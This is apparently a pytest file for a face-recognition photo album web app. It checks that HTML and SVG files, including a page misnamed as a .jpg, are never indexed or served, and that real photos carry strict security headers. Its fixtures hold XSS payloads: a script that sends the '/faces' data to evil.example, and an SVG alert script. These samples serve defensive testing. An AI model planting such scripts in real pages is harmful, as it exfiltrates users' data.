"""An album holds more than photos: pages, drawings, a page named like a photo. Only photos are indexed,
listed and served, each with the type its bytes say; the rendered copies are held within a byte budget."""
from __future__ import annotations

from dataclasses import replace
import shutil

import cv2
import numpy as np
import pytest
import requests

from recognition.album.library import AlbumLibrary
from tests.conftest import fixture_path, load_photo, wait_until
from webapp import create_app

SCRIPT = b"<script>fetch('/faces').then(r => r.text()).then(t => new Image().src = 'http://evil.example/?' + t)" \
         b"</script>"
NOT_PHOTOS = {"notes.html": b"<!doctype html><title>notes</title>" + SCRIPT,
              "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
              "holiday/fake.jpg": b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"}
PHOTOS = {"obama/obama1.jpg": "image/jpeg", "biden/named-png.png": "image/jpeg", "kit/kit.webp": "image/webp",
          "rose/rose.bmp": "image/bmp", "phone/obama.heic": "image/heic", "big/obama-big.jpg": "image/jpeg"}


def make_album(folder):
    (folder / "obama").mkdir(parents=True)
    shutil.copyfile(fixture_path("faces/obama/obama1.jpg"), folder / "obama" / "obama1.jpg")
    (folder / "biden").mkdir()
    shutil.copyfile(fixture_path("faces/biden/biden1.jpg"), folder / "biden" / "named-png.png")  # a JPEG, misnamed
    # over the largest highlighted copy, within a request's pixel bound (a larger one is read at a fraction)
    big = cv2.resize(load_photo("obama/obama2.jpg"), (2400, 3000))
    for relative, image, options in [("kit/kit.webp", load_photo("kit_harington/kit1.jpg"), [cv2.IMWRITE_WEBP_QUALITY, 90]),
                                     ("rose/rose.bmp", load_photo("rose_leslie/rose1.jpg"), []),
                                     ("big/obama-big.jpg", big, [])]:
        (folder / relative).parent.mkdir(exist_ok=True)
        assert cv2.imwrite(str(folder / relative), image, options)
    import pillow_heif
    from PIL import Image

    pillow_heif.register_heif_opener()
    (folder / "phone").mkdir()
    Image.open(fixture_path("faces/obama/obama3.jpg")).convert("RGB").save(folder / "phone" / "obama.heic", quality=90)
    for relative, data in NOT_PHOTOS.items():
        (folder / relative).parent.mkdir(exist_ok=True)
        (folder / relative).write_bytes(data)


def start_library(services, analyzer, folder) -> AlbumLibrary:
    library = AlbumLibrary.for_server([folder], services.store, analyzer).start()
    assert wait_until(lambda: library.progress.state == "ready", timeout=120)
    return library


@pytest.fixture
def album(tmp_path, services, live_server, analyzer):
    folder = tmp_path / "Family"
    make_album(folder)
    parts = replace(services, albums=start_library(services, analyzer, folder))
    app = create_app(parts)
    yield live_server(app), folder, app
    parts.albums.stop()


def get_photo(server, photo: str, **params) -> requests.Response:
    return requests.get(server.url + "/album/photo", params={"album": "Family", "photo": photo, **params}, timeout=30)


def listed(server) -> set[str]:
    """Every photo the album's API names: its people's faces and a search for each person."""
    people = requests.get(server.url + "/album/people", params={"threshold": "0.5"}, timeout=30).json()["people"]
    names = {face["photo"] for person in people for face in person["faces"]}
    for query in ("obama/obama3.jpg", "biden/biden2.jpg", "kit_harington/kit2.jpg"):
        with open(fixture_path(f"faces/{query}"), "rb") as handle:
            found = requests.post(server.url + "/album/search", files={"image": handle}, data={"threshold": "0.5"},
                                  timeout=60).json()
        names |= {match["photo"] for match in found["matches"]}
    return names


def test_only_photos_are_indexed_listed_and_served_with_their_real_type(album):
    server, folder, _ = album
    status = requests.get(server.url + "/album", timeout=10).json()
    assert status["photos"] == len(PHOTOS) and status["skipped_by_reason"] == {"unreadable": 1}  # the fake .jpg
    names = listed(server)
    assert {"obama/obama1.jpg", "biden/named-png.png", "phone/obama.heic"} <= names
    assert not names & set(NOT_PHOTOS)
    for relative in NOT_PHOTOS:
        for params in ({}, {"size": "100"}, {"box": "1,1,5,5"}):
            answer = get_photo(server, relative, **params)
            assert answer.status_code == 404 and "error" in answer.json(), (relative, params)
            assert answer.headers["Content-Type"] == "application/json" and b"<script" not in answer.content
    for relative, kind in PHOTOS.items():
        answer = get_photo(server, relative)
        assert answer.status_code == 200 and answer.headers["Content-Type"] == kind, relative
        assert answer.content == (folder / relative).read_bytes()
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in answer.headers["Content-Security-Policy"]
        assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"


def test_a_photo_replaced_by_a_page_is_neither_served_nor_listed_again(album, services, analyzer, live_server):
    server, folder, app = album
    assert "obama/obama1.jpg" in listed(server)
    (folder / "obama" / "obama1.jpg").write_bytes(NOT_PHOTOS["holiday/fake.jpg"])
    answer = get_photo(server, "obama/obama1.jpg")  # still in the index until it is walked again
    assert answer.status_code == 404 and b"<script" not in answer.content
    app.extensions["faceapp"].albums.stop()
    library = start_library(services, analyzer, folder)  # the next start walks the album again
    server = live_server(create_app(replace(services, albums=library)))
    assert "obama/obama1.jpg" not in listed(server)
    assert library.progress.photos == len(PHOTOS) - 1
    assert get_photo(server, "obama/obama1.jpg").status_code == 404
    library.stop()


def test_rendered_copies_are_held_within_a_byte_budget(album):
    from webapp.routes.albums import MAX_HIGHLIGHT_SIDE, RENDERS, RenderCache

    server, _, app = album
    cache = app.extensions[RENDERS] = RenderCache(max_bytes=256 * 1024)
    held = []
    for relative in PHOTOS:
        for size in (64, 128, 256, 512, 1024):
            answer = get_photo(server, relative, size=str(size), box="10,10,60,60")
            assert answer.status_code == 200 and answer.headers["Content-Type"] == "image/jpeg"
            shown = cv2.imdecode(np.frombuffer(answer.content, np.uint8), cv2.IMREAD_COLOR)
            assert max(shown.shape[:2]) <= size
            held.append(cache.bytes)
    assert max(held) <= cache.max_bytes and cache.bytes > 0
    # Highlighted without a size: at most twice the preview, and too big to be worth holding.
    before = cache.bytes
    big = get_photo(server, "big/obama-big.jpg", box="100,100,900,900")
    shown = cv2.imdecode(np.frombuffer(big.content, np.uint8), cv2.IMREAD_COLOR)
    assert max(shown.shape[:2]) == MAX_HIGHLIGHT_SIDE and len(big.content) > cache.max_bytes // 8
    assert cache.bytes == before
